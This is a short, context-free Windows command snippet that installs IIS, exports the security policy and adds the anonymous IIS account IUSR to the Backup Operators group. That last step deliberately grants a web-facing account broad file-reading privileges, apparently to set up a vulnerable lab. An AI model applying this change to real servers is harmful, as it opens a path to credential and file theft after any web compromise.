Install-WindowsFeature Web-Server
secedit /export /cfg C:\before.inf
net localgroup "Backup Operators" IUSR /add
